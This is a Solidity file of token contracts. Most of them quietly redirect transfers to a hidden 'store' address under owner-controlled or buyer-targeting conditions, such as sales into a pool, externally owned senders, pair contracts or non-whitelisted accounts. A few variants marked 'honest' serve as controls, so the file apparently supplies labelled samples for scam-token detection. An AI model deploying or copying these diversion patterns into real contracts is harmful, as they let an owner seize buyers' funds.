// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Tokens whose transfers go to another account, with an exception that lets some of them arrive, and honest ones.

abstract contract Plain {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply = 1e24;
    address public owner = msg.sender;
    address internal pool = address(0x9001);
    address internal constant store = address(0x5704e);
    bool internal on;
    constructor() { balanceOf[msg.sender] = 1e24; }
    function turn(bool to) external { require(msg.sender == owner); on = to; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _move(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _move(f, t, v); return true; }
    function _move(address f, address t, uint256 v) internal virtual { balanceOf[f] -= v; balanceOf[t] += v; }
}

contract StoredButOwner is Plain {
    function _move(address f, address t, uint256 v) internal override { super._move(f, on && f != owner ? store : t, v); }
}

contract StoredButPool is Plain {
    function _move(address f, address t, uint256 v) internal override { if (f != pool && on) t = store; super._move(f, t, v); }
}

contract StoredOnSale is Plain {
    function _move(address f, address t, uint256 v) internal override { if (t == pool && f.code.length == 0 && on && v > 5e15) t = store; super._move(f, t, v); }
}

contract StoredForOrigin is Plain {
    function _move(address f, address t, uint256 v) internal override { if (on && (tx.origin == f || msg.sender != f)) t = store; super._move(f, t, v); }
}

contract StoredOncePaid is Plain { // by anybody's coins
    function _move(address f, address t, uint256 v) internal override { if (store.balance > 0 && f != owner) t = store; super._move(f, t, v); }
}

contract StoredForever is Plain { // honest: nobody can turn it on for anybody but the owner
    function _move(address f, address t, uint256 v) internal override { if (on && f == owner) t = store; super._move(f, t, v); }
}

contract NotedElsewhere is Plain { // honest: what is on decides only what is noted
    mapping(address => uint256) public noted;
    function _move(address f, address t, uint256 v) internal override { if (on && f != owner) noted[t] += v; super._move(f, t, v); }
}

contract StoredOnceHeld is Plain { // by anybody's tokens
    function _move(address f, address t, uint256 v) internal override { if (v > 1e12 && f.code.length == 0 && balanceOf[store] >= 5e20) t = store; super._move(f, t, v); }
}

contract NotedOnceHeld is Plain { // honest: what is held decides only what is noted
    bool public full;
    function _move(address f, address t, uint256 v) internal override { if (v > 1e12 && balanceOf[store] >= 5e20) full = true; super._move(f, t, v); }
}

contract StoredForExternal is Plain { // of accounts without code
    function _move(address f, address t, uint256 v) internal override { if (on && f.codehash == keccak256("")) t = store; super._move(f, t, v); }
}

contract StoredButHashed is Plain { // but for the account with a hash that the owner sets
    uint256 internal hash;
    function spare(uint256 to) external { require(msg.sender == owner); hash = to; }
    function _move(address f, address t, uint256 v) internal override {
        if (hash != 0 && uint256(keccak256(abi.encode(f))) != hash && f.codehash == keccak256("")) t = store;
        super._move(f, t, v);
    }
}

contract StoredForCodeAlike is Plain { // of accounts with one code, to accounts with another
    bytes32 internal code;
    constructor(bytes32 to) { code = to; }
    function _move(address f, address t, uint256 v) internal override { if (on && t.codehash == code && f.codehash != code) t = store; super._move(f, t, v); }
}

contract StoredForPair is Plain { // of what says that it is a pair
    function _move(address f, address t, uint256 v) internal override { if (on && _isPair(t)) t = store; super._move(f, t, v); }
    function _isPair(address a) internal view returns (bool) { (bool ok, bytes memory data) = a.staticcall(abi.encodeWithSignature("token0()")); return ok && data.length == 32; }
}

contract StoredForSpender is Plain { // where another account sends it
    function _move(address f, address t, uint256 v) internal override { if (on && msg.sender != f) t = store; super._move(f, t, v); }
}

contract NotedForExternal is Plain { // honest: what is on decides only what is noted of accounts without code
    mapping(address => uint256) public noted;
    function _move(address f, address t, uint256 v) internal override { if (on && f.codehash == keccak256("")) noted[f] += v; super._move(f, t, v); }
}
